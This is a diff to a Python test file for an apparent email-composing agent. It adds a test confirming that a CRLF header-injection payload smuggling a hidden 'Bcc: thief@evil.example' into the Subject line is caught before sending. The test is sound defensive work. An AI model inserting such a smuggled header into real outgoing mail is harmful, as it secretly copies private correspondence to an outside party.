@@ -17,6 +17,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from agent.errors import NotAllowed
+from agent.outreach import compose as composing
 from agent.outreach import reread
 from agent.outreach.compose import Letter, Order, Writer, compose
 from agent.outreach.outgoing import outgoing
@@ -251,6 +252,15 @@ def test_the_second_reading_finds_what_was_not_meant(spoil: Callable[[bytes], by
     reread.check(made.content, ALICE, DANA, fields)
     with pytest.raises(NotAllowed):
         reread.check(spoil(made.content), ALICE, DANA, fields)
+
+
+def test_what_was_serialised_is_read_again_before_anybody_gets_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever lets a header line through one day, here our own folding, does not get past the second reading."""
+    folded = composing._folded
+    smuggled = "\r\nBcc: thief@evil.example"
+    monkeypatch.setattr(composing, "_folded", lambda name, value: folded(name, value) + smuggled * (name == "Subject"))
+    with pytest.raises(NotAllowed, match="header fields came out as"):
+        letter()
 
 
 def test_the_essence_is_what_it_says_not_how() -> None:
